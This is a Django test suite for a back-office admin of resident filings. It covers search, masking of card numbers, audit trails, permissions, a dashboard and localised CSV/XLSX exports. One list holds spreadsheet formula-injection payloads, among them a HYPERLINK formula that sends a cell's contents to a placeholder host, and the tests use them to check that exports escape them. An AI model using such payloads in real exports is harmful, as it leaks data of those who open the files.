"""Filings in the back office (SPEC O3, O6, X1; QUALITY C3, E1, G4)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission

from filings.admin.filings import escape_cell
from filings.constants import FilingKind
from filings.models import Filing, FilingState
from filings.services.registration import registry_identity
from portal.models import AuditEvent
from tests.factories import OrganizationFactory
from tests.filings.conftest import make_resident
from tests.filings.test_admin_registry import _sign_in

pytestmark = pytest.mark.django_db

User = get_user_model()


def _officer(username: str, *extra: str):
    user = User.objects.create_user(username, password="Officer#Pass1", is_staff=True)
    group = Group.objects.create(name=f"group-{username}")
    codenames = ["access_admin", "view_filing", *extra]
    group.permissions.set(Permission.objects.filter(codename__in=codenames))
    user.groups.add(group)
    return user


def _filing(**kwargs) -> Filing:
    resident = kwargs.pop("resident", None) or make_resident()
    defaults = {
        "kind": FilingKind.ACTIVITY_ORG_LEFT,
        "filer_type": "resident",
        "resident": resident,
        "card_number": resident.cards.get().number,
        "name_latin": resident.name_latin,
        "data": {
            **registry_identity(resident, resident.cards.get()),
            "left_on": "2026-11-20",
            "org_name": "デモ国際大学",
            "org_address": "東京都新宿区西新宿１丁目",
        },
        "language_code": "ja",
        "event_date": "2026-11-20",
        "due_date": "2026-12-04",
        "content_digest": "x",
        "filed_on": "2026-11-26",
    }
    defaults.update(kwargs)
    return Filing.objects.create(**defaults)


@pytest.fixture
def officer(ja_filing_site):
    return _officer("officer-full", "view_personal_data", "change_filing")


def test_listing_filters_and_search(client, officer):
    late = _filing(is_late=True, state=FilingState.REGISTRATION_ERROR)
    on_time = _filing()
    _sign_in(client, officer)
    response = client.get("/admin/filings/", {"is_late": "true"})
    html = response.content.decode()
    assert response.status_code == 200
    assert late.receipt_number in html and on_time.receipt_number not in html
    html = client.get("/admin/filings/", {"state": "registration_error"}).content.decode()
    assert late.receipt_number in html and on_time.receipt_number not in html
    html = client.get(
        "/admin/filings/", {"card_number": on_time.card_number.lower()}
    ).content.decode()
    assert on_time.receipt_number in html and late.receipt_number not in html
    html = client.get("/admin/filings/", {"q": late.receipt_number}).content.decode()
    assert late.receipt_number in html and on_time.receipt_number not in html
    # No way to create or edit filings here.
    from django.urls import NoReverseMatch, reverse

    for name in ("add", "edit", "delete"):
        with pytest.raises(NoReverseMatch):
            reverse(f"filings_filing:{name}", args=[] if name == "add" else [on_time.pk])


def _spelled_as_typed(card_number: str) -> str:
    """A card number as officers type it from a card: full-width, lower case, with spaces."""
    wide = "".join(chr(ord(c) + 0xFEE0) for c in card_number.lower())
    return f"{wide[:2]} {wide[2:6]}-{wide[6:10]} {wide[10:]}"


def test_the_search_box_finds_a_whole_card_number_as_typed_and_never_a_part(client, officer):
    one, other = _filing(), _filing()
    _sign_in(client, officer)
    for query in (one.card_number, one.card_number.lower(), _spelled_as_typed(one.card_number)):
        html = client.get("/admin/filings/", {"q": query}).content.decode()
        assert one.receipt_number in html and other.receipt_number not in html, query
    # A part of a number finds nothing by number (a masked number cannot be rebuilt).
    html = client.get("/admin/filings/", {"q": one.card_number[:8]}).content.decode()
    assert one.receipt_number not in html
    # Names are still searched.
    html = client.get("/admin/filings/", {"q": one.name_latin.lower()}).content.decode()
    assert one.receipt_number in html


def test_the_search_box_finds_a_corporate_number_in_every_listing_that_holds_it(client, officer):
    organization = OrganizationFactory()
    filed = _filing(filer_type="organization", organization=organization)
    unrelated = _filing()
    officer.is_superuser = True
    officer.save()
    _sign_in(client, officer)
    typed = "".join(chr(ord(c) + 0xFEE0) for c in organization.corporate_number)
    html = client.get("/admin/filings/", {"q": typed}).content.decode()
    assert filed.receipt_number in html
    assert unrelated.receipt_number not in html
    html = client.get("/admin/snippets/filings/organization/", {"q": typed}).content.decode()
    assert organization.name in html


def test_card_numbers_are_masked_without_the_personal_data_permission(client, ja_filing_site):
    filing = _filing()
    limited = _officer("officer-limited")
    _sign_in(client, limited)
    html = client.get("/admin/filings/").content.decode()
    assert filing.card_number not in html and filing.card_number[-4:] in html
    # The detail shows everything, so it is refused and nothing is recorded as viewed.
    response = client.get(f"/admin/filings/inspect/{filing.pk}/")
    assert response.status_code in (302, 403)
    assert not AuditEvent.objects.filter(action="filing.viewed").exists()
    export = client.get("/admin/filings/", {"export": "csv"})
    body = b"".join(export.streaming_content).decode()
    assert filing.card_number not in body and filing.card_number[-4:] in body


def test_each_view_of_the_detail_is_audited(client, officer):
    filing = _filing()
    _sign_in(client, officer)
    for _ in range(2):
        response = client.get(f"/admin/filings/inspect/{filing.pk}/")
        assert response.status_code == 200
        assert filing.name_latin in response.content.decode()
    events = AuditEvent.objects.filter(action="filing.viewed")
    assert events.count() == 2
    assert {e.actor for e in events} == {officer}
    assert {e.target_id for e in events} == {str(filing.public_id)}
    # The trail records that personal data was seen, not the data itself (QUALITY G4).
    assert filing.card_number not in str(list(events.values()))


def test_retry_and_withdraw_need_the_change_permission(client, ja_filing_site):
    filing = _filing(state=FilingState.REGISTRATION_ERROR)
    viewer = _officer("officer-viewer", "view_personal_data")
    _sign_in(client, viewer)
    client.post(f"/admin/filings/retry/{filing.pk}/")
    client.post(f"/admin/filings/withdraw/{filing.pk}/", {"reason": "asked"})
    filing.refresh_from_db()
    assert filing.state == FilingState.REGISTRATION_ERROR


def test_retry_and_withdraw_with_a_reason(client, officer, django_capture_on_commit_callbacks):
    filing = _filing(state=FilingState.REGISTRATION_ERROR)
    _sign_in(client, officer)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/admin/filings/retry/{filing.pk}/")
    assert response.status_code == 302
    filing.refresh_from_db()
    # Registered again at once (eager here): the registry still knows this person and card.
    assert filing.state == FilingState.COMPLETED
    response = client.post(f"/admin/filings/withdraw/{filing.pk}/", {"reason": ""})
    assert response.status_code == 200
    filing.refresh_from_db()
    assert filing.state == FilingState.COMPLETED
    client.post(f"/admin/filings/withdraw/{filing.pk}/", {"reason": "Filed twice by mistake"})
    filing.refresh_from_db()
    assert filing.state == FilingState.WITHDRAWN
    assert filing.withdrawal_reason == "Filed twice by mistake"
    assert AuditEvent.objects.filter(action="filing.withdrawn", actor=officer).count() == 1
    assert AuditEvent.objects.filter(action="filing.retried", actor=officer).count() == 1


DANGEROUS = ['=HYPERLINK("http://x/?"&A1,"a")', "+1+1", "-2", "@SUM(A1)", "\tfoo", "\0x"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_escape_cell_neutralises_formulas(value):
    escaped = escape_cell(value)
    assert escaped.startswith("'")
    assert "\0" not in escaped


# PostgreSQL cannot store NUL at all, so the stored names use a carriage return instead.
STORED = [*DANGEROUS[:-1], "\rx"]


def test_e1_exports_never_contain_formulas(client, officer):
    for index, value in enumerate(STORED):
        _filing(
            name_latin=value,
            organization=OrganizationFactory(name=f"{value} org{index}"),
            filer_type="organization",
        )
    _sign_in(client, officer)
    response = client.get("/admin/filings/", {"export": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        sheets = [n for n in workbook.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(workbook.read(name).decode() for name in sheets)
        xml += (
            workbook.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in workbook.namelist()
            else ""
        )
    assert "<f>" not in xml and "<f " not in xml
    assert "&apos;=HYPERLINK" in xml or "'=HYPERLINK" in xml

    response = client.get("/admin/filings/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = {row[6] for row in rows[1:]}
    assert names == {escape_cell(v) for v in STORED}
    assert all(name.startswith("'") for name in names)
    # Every export is recorded, with the row count and no personal data.
    events = AuditEvent.objects.filter(action="filing.exported")
    assert [e.details["format"] for e in events.order_by("id")] == ["xlsx", "csv"]
    assert all(e.details["rows"] == len(STORED) for e in events)


def test_the_dashboard_panel_counts_today(client, officer):
    from filings.rules import today_in_japan

    today = today_in_japan()
    _filing(filed_on=today, is_late=True)
    _filing(filed_on=today, state=FilingState.REGISTRATION_ERROR)
    _filing(filed_on=today, state=FilingState.COMPLETED)
    _filing(filed_on="2020-01-01", state=FilingState.REGISTRATION_ERROR)
    _sign_in(client, officer)
    html = client.get("/admin/").content.decode()
    assert 'data-panel="filings"' in html
    assert 'data-figure="today">3<' in html
    assert 'data-figure="backlog">1<' in html  # the one still received
    assert 'data-figure="errors">2<' in html
    assert 'data-figure="late">1<' in html
    assert html.count("<rect ") == 14
    # The chart's figures are readable without the picture: one row per day, dates on the
    # caption's axis, the highest value named.
    assert html.count('data-figure="day"') == 14
    assert 'data-figure="day">3<' in html
    assert (
        f"{today:%Y-%m-%d}" in html.split('id="filings-chart-caption"')[1].split("</figcaption>")[0]
    )


def test_exports_speak_labels_in_the_officers_language_and_japan_time(client, officer):
    import datetime

    from openpyxl import load_workbook

    from django.utils import timezone

    received = datetime.datetime(2026, 11, 26, 1, 2, 3, 456789, tzinfo=datetime.UTC)
    filing = _filing(state=FilingState.COMPLETED, is_late=False)
    Filing.objects.filter(pk=filing.pk).update(received_at=received)
    _sign_in(client, officer)

    response = client.get("/admin/filings/", {"export": "csv"}, HTTP_ACCEPT_LANGUAGE="ja")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    row = rows[0]
    values = set(row.values())
    assert {"completed", "resident", "False", "True"}.isdisjoint(values)
    assert {"登録完了", "中長期在留者", "いいえ", "日本語"} <= values
    received_heading = next(h for h in row if h.endswith("（日本時間）"))
    assert row[received_heading] == "2026-11-26T10:02:03+09:00"

    response = client.get("/admin/filings/", {"export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="ja")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    cells = dict(zip(headings, (cell.value for cell in sheet[2]), strict=True))
    assert cells[received_heading] == datetime.datetime(2026, 11, 26, 10, 2, 3)
    assert cells[received_heading] == timezone.localtime(received).replace(
        tzinfo=None, microsecond=0
    )
    # The due date is a real date cell, not text.
    assert datetime.date(2026, 12, 4) in cells.values(), cells
    assert {"登録完了", "いいえ", "日本語"} <= set(cells.values())
